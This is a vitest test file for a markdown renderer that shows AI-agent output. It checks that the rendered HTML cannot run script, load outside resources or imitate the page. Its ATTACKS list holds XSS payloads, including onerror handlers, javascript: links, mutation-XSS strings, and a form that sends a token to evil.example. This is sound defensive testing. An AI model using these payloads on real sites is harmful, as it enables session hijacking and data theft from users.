import { describe, expect, test } from "vitest";
import { clean, readTokens, renderToken } from "./render";

const html = (markdown: string) => readTokens(markdown).map(renderToken).join("");

/** What an agent could write, or be made to write by a page it read. */
const ATTACKS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '<a href="javascript:alert(1)">x</a>',
  "[x](javascript:alert(1))",
  "[x](  JaVaScRiPt:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "![x](javascript:alert(1))",
  "![x](https://evil.example/pixel.png)",
  '![x](x "onerror=alert(1)")',
  "<svg><script>alert(1)</script></svg>",
  "<svg onload=alert(1)>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  '<iframe src="https://evil.example"></iframe>',
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<style>*{display:none}</style>",
  '<div style="position:fixed;inset:0" class="fixed inset-0" id="root">x</div>',
  "<form action=https://evil.example><input name=token></form>",
  "<b onmouseover=alert(1)>x</b>",
  "<details open ontoggle=alert(1)>x</details>",
  '<a href="https://ok.example" onclick="alert(1)" style="position:fixed">x</a>',
  "<video><source onerror=alert(1)></video>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<template><img src=x onerror=alert(1)></template>",
  "<base href=https://evil.example>",
  "<meta http-equiv=refresh content=0;url=https://evil.example>",
  "<link rel=stylesheet href=https://evil.example>",
  "`<img src=x onerror=alert(1)>`",
  "<x onclick=alert(1)>y</x>",
];

const ALLOWED = new Set(["href", "title", "src", "alt", "align", "start", "target", "rel"]);

function elements(markup: string): Element[] {
  const page = new DOMParser().parseFromString(markup, "text/html");
  return [...page.body.querySelectorAll("*"), ...page.head.querySelectorAll("*")];
}

function expectHarmless(markup: string): void {
  for (const element of elements(markup)) {
    expect(["SCRIPT", "STYLE", "IFRAME", "FORM", "INPUT", "SVG", "MATH", "BASE", "META", "LINK", "TEMPLATE"]).not.toContain(
      element.tagName.toUpperCase(),
    );
    for (const { name, value } of element.attributes) {
      expect(ALLOWED).toContain(name);
      if (name === "href") expect(value).toMatch(/^(https?:|mailto:)/i);
      if (name === "src") expect(value).toMatch(/^(data:image\/|blob:)/i);
    }
  }
}

describe("what an agent writes can neither run, nor load, nor pretend to be the page", () => {
  test.each(ATTACKS)("%s", (attack) => {
    expectHarmless(html(attack));
    expectHarmless(clean(attack));
    expectHarmless(html(`text ${attack} text`));
    expectHarmless(html(`- ${attack}\n\n| a |\n|---|\n| ${attack} |`));
  });
});

test("HTML that is no markdown is shown as it was typed, not lost", () => {
  const page = new DOMParser().parseFromString(html("a Vec<String> and <MyTag attr> here"), "text/html");
  expect(page.body.textContent.trim()).toBe("a Vec<String> and <MyTag attr> here");
});

test("what is to be done has its box in place of the dot", () => {
  const list = html("- [x] read\n- [ ] mend\n- think");
  expect(list.match(/<li class="task">/g)).toHaveLength(2);
  expect(list).toContain("<li>think</li>");
});

test("plain marks in HTML work", () => {
  expect(html("H<sub>2</sub>O<br>x")).toContain("H<sub>2</sub>O<br>x");
});

test("links open in another tab, which learns nothing of this one", () => {
  const [, link] = elements(html("[x](https://example.org)"));
  expect(link?.getAttribute("target")).toBe("_blank");
  expect(link?.getAttribute("rel")).toBe("noopener noreferrer");
});

test("an image of another host is a link to it: nothing is loaded", () => {
  const markup = html("![a cat](https://other.example/cat.png)");
  expect(markup).not.toContain("<img");
  expect(markup).toContain("a cat</a>");
});

test("an image in the text itself is shown", () => {
  expect(html("![dot](data:image/png;base64,AAAA)")).toContain('<img src="data:image/png;base64,AAAA" alt="dot">');
});

test("a path in the project is no address of the page", () => {
  expect(html("[app.py](src/app.py)")).toContain("<a>app.py</a>");
});
